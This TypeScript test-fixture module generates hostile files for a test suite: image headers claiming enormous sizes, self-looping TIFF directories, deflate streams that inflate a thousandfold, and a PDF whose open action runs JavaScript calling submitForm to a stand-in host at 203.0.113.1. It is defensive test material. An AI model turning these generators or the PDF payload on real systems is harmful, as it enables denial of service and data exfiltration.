/**
 * Hostile files built by the tests: image headers claiming huge sizes, looping TIFF directories, PDFs
 * whose streams inflate a thousandfold, PDFs that run JavaScript.
 */
import { createDeflate } from "node:zlib";

/** A PNG signature and IHDR chunk claiming width x height, and nothing after: what a decoder sizes its buffer from. */
export function pngHeader(width: number, height: number): Uint8Array {
  const bytes = new Uint8Array(33);
  const view = new DataView(bytes.buffer);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 0);
  view.setUint32(8, 13);
  bytes.set([0x49, 0x48, 0x44, 0x52], 12);
  view.setUint32(16, width);
  view.setUint32(20, height);
  bytes.set([8, 2, 0, 0, 0], 24);
  return bytes;
}

/** A baseline JPEG start: SOI, then a SOF0 segment claiming width x height. */
export function jpegHeader(width: number, height: number): Uint8Array {
  const bytes = Uint8Array.from([0xff, 0xd8, 0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xff, 0xd9]);
  return bytes;
}

/** A little-endian TIFF whose image directories are given as [width, height]; `loop` points the last one back at the first. */
export function tiff(pages: Array<[number, number]>, loop = false): Uint8Array {
  const entrySize = 2 + 2 * 12 + 4;
  const bytes = new Uint8Array(8 + pages.length * entrySize);
  const view = new DataView(bytes.buffer);
  bytes.set([0x49, 0x49], 0);
  view.setUint16(2, 42, true);
  view.setUint32(4, 8, true);
  pages.forEach(([width, height], index) => {
    const at = 8 + index * entrySize;
    view.setUint16(at, 2, true);
    const entry = (slot: number, tag: number, value: number) => {
      const offset = at + 2 + slot * 12;
      view.setUint16(offset, tag, true);
      view.setUint16(offset + 2, 4, true); // LONG
      view.setUint32(offset + 4, 1, true);
      view.setUint32(offset + 8, value, true);
    };
    entry(0, 256, width);
    entry(1, 257, height);
    const next = index + 1 < pages.length ? at + entrySize : loop ? 8 : 0;
    view.setUint32(at + 2 + 2 * 12, next, true);
  });
  return bytes;
}

/** `decodedBytes` of spaces, deflated in chunks (never held whole in memory). */
export async function deflatedSpaces(decodedBytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on("data", (chunk: Buffer) => out.push(chunk));
  const chunk = Buffer.alloc(16 * 1024 * 1024, 0x20);
  for (let written = 0; written < decodedBytes; written += chunk.length) {
    if (!deflate.write(chunk.subarray(0, Math.min(chunk.length, decodedBytes - written)))) await new Promise((resolve) => deflate.once("drain", resolve));
  }
  await new Promise((resolve) => deflate.end(resolve));
  return Buffer.concat(out);
}

/** A PDF of the given objects (numbered from 1, the first the catalog), with a correct cross-reference table. */
export function assemblePdf(objects: readonly (string | Buffer[])[]): Uint8Array {
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let length = 0;
  const add = (part: string | Buffer) => {
    const buffer = typeof part === "string" ? Buffer.from(part, "latin1") : part;
    parts.push(buffer);
    length += buffer.length;
  };
  add("%PDF-1.7\n");
  objects.forEach((body, index) => {
    offsets.push(length);
    if (typeof body === "string") add(`${index + 1} 0 obj\n${body}\nendobj\n`);
    else {
      add(`${index + 1} 0 obj\n`);
      body.forEach(add);
      add("\nendobj\n");
    }
  });
  const xref = length;
  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("")}`);
  add(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

const PAGE_TREE = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"];

/** A one-page PDF whose content stream is `stream` (FlateDecode). */
export function pdfWithFlateContent(stream: Buffer): Uint8Array {
  return assemblePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    ...PAGE_TREE,
    [Buffer.from(`<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`, "latin1"), stream, Buffer.from("\nendstream", "latin1")],
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ]);
}

/** A one-page PDF showing `lines` (ASCII) that runs JavaScript when opened (/OpenAction). */
export function pdfWithJavaScript(lines: readonly string[]): Uint8Array {
  const escape = (text: string) => text.replace(/[\\()]/g, (char) => `\\${char}`);
  const content = `BT /F1 11 Tf 14 TL 56 780 Td ${lines.map((line) => `(${escape(line)}) '`).join(" ")} ET`;
  return assemblePdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
    ...PAGE_TREE,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://203.0.113.1/'\\)) >>",
  ]);
}
